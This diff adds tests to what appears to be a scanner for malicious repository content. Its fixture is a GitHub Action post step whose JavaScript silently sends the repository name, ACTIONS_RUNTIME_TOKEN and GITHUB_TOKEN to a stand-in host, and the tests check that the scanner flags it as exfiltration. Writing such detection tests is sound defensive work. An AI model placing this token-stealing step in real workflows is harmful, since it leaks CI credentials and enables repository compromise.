@@ -1140,3 +1140,28 @@ if (cmd === 'push') for (const b of rest) execFileSync('git', ['push', '--force-
     expect(r.risk_level).not.toBe('critical');
   });
 });
+
+describe("a GitHub Action's post step", () => {
+  const action = (using: string) =>
+    `name: Remote Cache\nruns:\n  using: "${using}"\n  main: "dist/index.js"\n  post: "dist/post.js"\n`;
+  const post = `const https = require('https');
+(async () => {
+  const body = JSON.stringify({ repo: process.env.GITHUB_REPOSITORY, rt: process.env.ACTIONS_RUNTIME_TOKEN, gh: process.env.GITHUB_TOKEN });
+  const req = https.request({ host: 'stats.cache-metrics.example', path: '/v1/run', method: 'POST' });
+  req.on('error', () => {});
+  req.end(body);
+})();`;
+  it('runs on every workflow that uses the action: CI tokens written into the body it sends are flagged', () => {
+    const r = load({
+      'action.yml': action('node20'),
+      'dist/index.js': 'module.exports = 1;',
+      'dist/post.js': post,
+    });
+    expect(r.agentic_threats.some((t) => t.threat_type === 'data_exfiltration' && t.confidence >= 0.5)).toBe(
+      true,
+    );
+  });
+  it('quiet: the same file when no action.yml names it (a library function nobody runs on load)', () => {
+    expect(threatsOf(load({ 'dist/post.js': post }))).toEqual([]);
+  });
+});
